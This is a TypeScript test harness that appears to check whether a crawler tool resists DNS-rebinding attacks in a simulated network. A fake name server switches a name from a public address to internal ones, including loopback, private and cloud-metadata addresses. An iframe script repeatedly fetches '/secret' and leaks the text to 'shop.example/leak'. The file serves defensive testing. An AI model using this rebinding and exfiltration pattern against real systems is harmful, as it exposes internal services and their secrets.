/** Runs in an internet of its own: names that lead to a public address first, and inside from then on. */
import { join } from 'node:path';
import { runCli } from '../../../support/command-line.ts';
import { startOwnServers } from '../../../support/own-internet/servers.ts';
import type { NameAnswer } from '../../../support/name-server.ts';
import { PUBLIC, SECRET } from './found.ts';

const [, , folder = ''] = process.argv;
/** What a name that rebinds says after its first answer, one after the other. */
const inside =
  '127.0.0.1 ::1 10.0.0.7 169.254.169.254 ::ffff:127.0.0.1 fd00::1 0.0.0.0 64:ff9b:1::7f00:1 64:ff9b::7f00:1 ' +
  '2002:7f00:1:: 2001::7f00:1 ::ffff:0:127.0.0.1';
const addresses = inside.split(' ');

function resolve(name: string, times: number): NameAnswer {
  if (name === 'shop.example') return { addresses: [PUBLIC] };
  if (!name.startsWith('rebinds')) return { is: 'unknown' };
  return { addresses: [times === 0 ? PUBLIC : (addresses[(times - 1) % addresses.length] ?? '')] };
}

/** Asks its own host again and again, and tells what it got to the site that it stands in. */
const frame = `<!doctype html><script>
  let number = 0;
  const again = setInterval(async () => {
    number += 1;
    if (number > 14) clearInterval(again);
    const text = await fetch('/secret?' + number).then((answer) => answer.text(), () => '');
    if (text) new Image().src = 'http://shop.example/leak?' + encodeURIComponent(text);
  }, 150);
</script>`;
const page = `<!doctype html><title>Shop</title><h1>Shop</h1>
  <iframe src="http://rebinds-later.example/frame"></iframe><a href="/next">next</a>`;

const servers = await startOwnServers({
  folder,
  resolve,
  answer: ({ url = '', socket }, answer) => {
    const isPublic = (socket.localAddress ?? '').endsWith(PUBLIC);
    // Each request takes a connection of its own, and so a look-up.
    answer.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
    if (!isPublic) answer.end(`<!doctype html><title>${SECRET}</title>${SECRET}`);
    else answer.end(url === '/frame' ? frame : page);
  },
});
const out = join(folder, 'run');
const sites = ['http://shop.example/', 'http://rebinds.example/'];
const asked = ['--journey', 'none', '--pages', '2', '--engine', 'shell'];
const { code, stdout, stderr } = await runCli(['crawl', ...sites, '--out', out, ...asked], folder);
await servers.close();
const { arrivals, names } = servers;
process.stdout.write(JSON.stringify({ code, said: `${stdout}${stderr}`, arrivals, names }));
